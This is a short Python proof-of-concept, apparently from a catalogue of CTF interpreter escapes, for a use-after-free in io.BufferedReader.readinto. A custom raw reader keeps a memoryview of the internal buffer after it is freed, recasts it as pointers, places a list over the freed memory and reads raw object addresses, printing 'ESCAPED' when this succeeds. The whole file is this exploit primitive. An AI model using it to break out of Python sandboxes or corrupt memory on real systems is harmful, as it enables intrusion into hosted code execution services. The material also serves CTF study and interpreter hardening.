# technique: BufferedReader.readinto lends its buffer to our raw object, which keeps the view after the buffer is freed
# goal: code
# mended: later releases
# source: pwn.win 2022
import io


class Raw(io.RawIOBase):
    def readinto(self, buffer):
        global view
        view = buffer

    def readable(self):
        return True


reader = io.BufferedReader(Raw())
reader.read(1)
del reader
view = view.cast('P')
box = [None] * len(view)
if view[0] == id(None):
    print('ESCAPED a view of a list', flush=True)
